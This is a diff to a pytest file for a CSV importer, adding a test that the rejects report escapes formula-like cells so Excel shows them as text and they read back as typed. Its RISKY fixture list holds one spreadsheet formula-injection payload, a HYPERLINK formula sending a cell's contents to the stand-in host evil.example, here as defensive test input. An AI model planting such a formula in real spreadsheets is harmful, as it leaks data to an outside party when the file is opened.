@@ -6,6 +6,7 @@ received carrying the cells exactly as typed. Files that cannot be imported end 
 exit-2 error instead.
 """
 
+import csv
 import io
 import random
 import time
@@ -16,15 +17,19 @@ from typing import Any
 import pytest
 
 from importer.cli import main
+from importer.read.escape import REJECTS_EXTRA_COLUMNS, escape_formula
+from importer.read.tables import open_table
 from tests.sandboxed import DATA, DEFAULT_MAPPING, SAMPLES, Imported, import_file
 
 CREATED = ("created", "")
 MAPPINGS = DATA / "mappings"
 
 
-def run(tmp_path: Path, name: str, mapping: str | None = None, **options: Any) -> Imported:
+def run(
+    tmp_path: Path, name: str, mapping: str | None = None, data: Path = DATA, **options: Any
+) -> Imported:
     chosen = DEFAULT_MAPPING if mapping is None else MAPPINGS / mapping
-    return import_file(DATA / name, tmp_path / "out", chosen, **options)
+    return import_file(data / name, tmp_path / "out", chosen, **options)
 
 
 def assert_rejected(
@@ -43,7 +48,8 @@ def assert_rejected(
     assert f'column "{column}"' in message
     assert f'"{value}"' in message
     (reject,) = [r for r in imported.rejects if r["error_row"] == str(row)]
-    assert reject[column] == (value if cell is None else cell)  # the original cell, unchanged
+    # the original cell, written so that Excel shows it as text (read back as typed)
+    assert reject[column] == escape_formula(value if cell is None else cell)
     assert reject["error_code"].split(";")[0] == code
     assert reject["error_field"].split(";")[0] == field
 
@@ -316,6 +322,38 @@ def test_a_cell_past_the_reading_limit_stops_the_file_with_the_flag_to_raise_it(
     assert "row 3 has a cell longer than 1 MB (the longest cell the importer reads)" in err
     assert "raise the limit with --max-cell-mb 4" in err
     assert "never closed" not in err
+
+
+# -- reports that Excel opens safely and that import again ------------------------------------
+
+RISKY = [
+    '=HYPERLINK("http://evil.example/?"&A2,"CV")',
+    "+44 20 7946 0958",
+    "-",
+    "@SUM(1+1)",
+    "'=typed with an apostrophe",
+    "'s-Hertogenbosch",
+]
+
+
+def test_rejects_csv_is_formula_safe_in_the_input_delimiter_and_reads_back_as_typed(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "european.csv"
+    rows = [["Ann", "ann@example.com", *RISKY], ["Bob", "bob@", *RISKY]]  # Bob is rejected
+    header = ["Name", "Email", "Notes", "Phone", "Dash", "At", "Apostrophe", "City"]
+    with path.open("w", newline="", encoding="utf-8") as f:
+        csv.writer(f, delimiter=";").writerows([header, *rows])
+    imported = run(tmp_path, "european.csv", data=tmp_path, dry_run=True)
+    assert imported.outcomes() == {2: ("not_attempted", ""), 3: ("rejected", "invalid-email")}
+    text = (tmp_path / "out" / "rejects.csv").read_text(encoding="utf-8-sig")
+    assert text.splitlines()[0] == ";".join([*header, *REJECTS_EXTRA_COLUMNS])
+    (reject,) = imported.rejects
+    written = [reject[column] for column in header[2:]]
+    assert written == ["'" + cell if cell != "'s-Hertogenbosch" else cell for cell in RISKY]
+    with open_table(tmp_path / "out" / "rejects.csv") as table:
+        (again,) = list(table.rows)
+    assert list(again.values[: len(header)]) == rows[1]  # as typed, apostrophes included
 
 
 # -- values Excel or a type-guessing reader would mangle ---------------------------------------
